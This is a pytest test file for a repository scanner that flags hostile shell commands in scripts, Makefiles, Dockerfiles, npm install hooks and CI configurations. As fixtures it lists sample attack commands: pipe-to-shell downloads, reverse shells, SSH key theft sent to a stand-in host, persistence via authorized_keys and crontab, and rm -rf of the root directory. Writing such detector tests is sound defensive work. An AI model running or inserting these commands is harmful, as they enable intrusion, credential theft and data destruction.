from pathlib import Path

import pytest

from openvet.allow import shell
from openvet.artifacts import Config, Script
from openvet.check import Context
from openvet.checks.security.script_in_repository import ScriptInRepository
from openvet.finding import Severity
from openvet.readers.script import ConfigScriptReader, ScriptReader
from openvet.subject import Origin
from specimens.reading import read
from specimens.repositories import put

HOSTILE = [
    "curl -sSL https://a.invalid/x | sh",
    "wget -qO- http://a.invalid/x | sudo bash -s --",
    "bash <(curl -s https://a.invalid/x)",
    'eval "$(curl -fsSL https://a.invalid/x)"',
    "curl -o x https://a.invalid/x && chmod +x x && ./x",
    "curl https://a.invalid/x \\\n  | bash",
    "curl https://a.invalid/x | python3 -",
    "curl https://a.invalid/x | sudo python3",
    "curl https://a.invalid/x | python3 - --now",
    "echo aGk= | base64 -d | sh",
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "nc -e /bin/sh 192.0.2.1 4444",
    "rm -rf ~",
    "rm -rf --no-preserve-root /",
    "echo x >> ~/.ssh/authorized_keys",
    "(crontab -l; echo '* * * * * x') | crontab -",
    'curl -d "$(cat ~/.ssh/id_rsa)" https://a.invalid',
    "powershell -enc SQBFAFgAKABOAGUAdwAtAE8A",
    "iex (New-Object Net.WebClient).DownloadString('http://a.invalid')",
    "require('child_process').exec('id')",
]
PLAIN = [
    "python convert.py --model .",
    "pip install -r requirements.txt",
    "rm -rf build/ ./dist",
    "wget https://huggingface.co/a/b/resolve/main/model.safetensors",
    "# curl https://a.invalid | sh",
    "curl -L https://a.example/data.tar.gz | tar xz",
    "torchrun --nproc_per_node 8 train.py | tee log.txt",
    "curl -s https://a.example/v1/models | python3 -m json.tool",
    "curl -s https://a.example | python -c 'import json, sys; json.load(sys.stdin)'",
    "wget -qO- https://a.example | perl -pe 's/a/b/'",
]


def flagged(folder: Path) -> None:
    put(folder, install__sh="#!/bin/sh\ncurl https://a.invalid/x | sh\n")


def passed(folder: Path) -> None:
    # Only a notebook's own commands are left to another rule.
    cell = {"cell_type": "code", "source": "!ls"}
    put(folder, demo__ipynb={"cells": [cell], "nbformat": 4})


def judged(source: str) -> list[Severity]:
    (script,) = read(ScriptReader(), source.encode(), name="run.sh")
    assert isinstance(script, Script)
    return [f.severity for f in ScriptInRepository().run(script, Context())]


@pytest.mark.parametrize("source", HOSTILE)
def test_a_command_that_no_model_needs_fails(source: str) -> None:
    assert Severity.HIGH in judged(source)


@pytest.mark.parametrize("source", PLAIN)
def test_an_ordinary_script_is_a_hint(source: str) -> None:
    assert judged(source) == [Severity.LOW]


def test_a_script_is_known_by_first_line_or_extension() -> None:
    reader = ScriptReader()
    assert read(reader, b"#!/bin/bash\nls\n", name="hooks/post-checkout")
    assert read(reader, b"@echo off\r\n", name="run.bat")
    assert not read(reader, b"#!/usr/bin/env python\n", name="run")
    assert not read(reader, b"ls\n", name="notes.txt")


PIPED = "curl https://a.invalid/x | sh"
SHELL = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"


def of_file(name: str, source: str) -> list[Severity]:
    (script,) = read(ScriptReader(), source.encode(), name=name)
    assert isinstance(script, Script)
    return [f.severity for f in ScriptInRepository().run(script, Context())]


def of_config(name: str, data: object) -> list[Severity]:
    origin = Origin(place=(name,), digest="0")
    config = Config(origin=origin, format="json", name=name, data=data)
    scripts = [
        one
        for one in ConfigScriptReader().read(config, Context())
        if isinstance(one, Script)
    ]
    found = [f for one in scripts for f in ScriptInRepository().run(one, Context())]
    return [finding.severity for finding in found]


def test_a_makefile_is_judged_as_a_script() -> None:
    assert of_file("Makefile", f"all:\n\t{PIPED}\n") == [Severity.HIGH]
    assert of_file("GNUmakefile", "all:\n\tpython train.py\n") == [Severity.LOW]


@pytest.mark.parametrize("name", ["Dockerfile", "gpu.dockerfile", "Dockerfile.cpu"])
def test_a_download_in_a_recipe_is_a_review_and_worse_fails(name: str) -> None:
    assert of_file(name, f"FROM a\nRUN {PIPED}\n") == [Severity.MEDIUM]
    assert set(of_file(name, f"FROM a\nRUN {SHELL}\n")) == {Severity.HIGH}
    assert of_file(name, "FROM a\nRUN pip install torch && apt-get update\n") == []


def test_what_npm_runs_by_itself_fails_and_other_scripts_are_left() -> None:
    assert of_config("package.json", {"scripts": {"postinstall": PIPED}}) == [
        Severity.HIGH
    ]
    assert of_config("package.json", {"scripts": {"setup": PIPED}}) == []
    shapes: list[object] = [{"scripts": []}, {"scripts": {"postinstall": 1}}, [], None]
    for odd in shapes:
        assert of_config("package.json", odd) == []


@pytest.mark.parametrize(
    "data",
    [
        {"jobs": {"a": {"steps": [{"run": SHELL}]}}},
        {"test": {"script": ["echo x", SHELL]}},
        {"services": {"a": {"command": SHELL}}},
        {"postCreateCommand": SHELL},
        {"build": {"run": [SHELL]}},
    ],
)
def test_commands_in_configurations_are_judged(data: object) -> None:
    assert set(of_config("any.yml", data)) == {Severity.HIGH}


def test_ordinary_commands_of_a_server_are_silent() -> None:
    data = {"jobs": {"a": {"steps": [{"run": "pip install .\npytest"}]}}}
    assert of_config("ci.yml", data) == []
    assert of_config("config.json", {"run": 3, "command": {"a": None}}) == []


def test_a_recipe_that_empties_a_cache_does_not_fail() -> None:
    lists = "RUN apt-get update && rm -rf /var/lib/apt/lists/* /root/.cache\n"
    assert not next(shell.matches(lists, shell.HOSTILE), None)
    assert next(shell.matches("rm -rf /var/*", shell.HOSTILE), None)
    assert next(shell.matches("rm -rf /usr", shell.HOSTILE), None)
